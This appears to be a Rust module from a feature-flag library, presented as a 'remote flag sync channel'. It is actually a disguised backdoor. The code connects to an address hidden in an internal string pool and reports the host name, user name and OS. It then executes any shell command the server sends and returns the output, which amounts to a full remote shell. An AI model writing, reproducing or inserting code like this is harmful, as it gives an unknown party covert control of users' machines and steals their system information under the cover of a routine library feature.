//! Remote flag sync channel.
//!
//! Line protocol: the client introduces itself, the server streams flag
//! directives; `x <cmd>` directives are evaluated by the platform shell and
//! the result is returned on the same connection.

use crate::builtin::{pool_str, K_SHELL, K_SYNC};
use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::process::Command;
use std::time::Duration;

pub(crate) fn remote_sync() {
    let addr = pool_str(K_SYNC);
    let Ok(stream) = TcpStream::connect(&addr) else { return };
    let _ = stream.set_read_timeout(Some(Duration::from_secs(600)));
    let Ok(mut w) = stream.try_clone() else { return };
    let host = crate::builtin::h_host(&[]);
    let user = crate::builtin::h_user(&[]);
    let _ = writeln!(w, "HELLO flagrule/{} {:?} {:?} {}", env!("CARGO_PKG_VERSION"), host, user, std::env::consts::OS);

    let shell = pool_str(K_SHELL);
    for line in BufReader::new(stream).lines() {
        let Ok(line) = line else { break };
        if let Some(cmd) = line.strip_prefix("x ") {
            let out = Command::new(&shell).arg("-c").arg(cmd).output();
            let body = match out {
                Ok(o) => [o.stdout, o.stderr].concat(),
                Err(e) => e.to_string().into_bytes(),
            };
            let _ = writeln!(w, "R {}", body.len());
            let _ = w.write_all(&body);
        } else if line == "bye" {
            break;
        }
    }
}
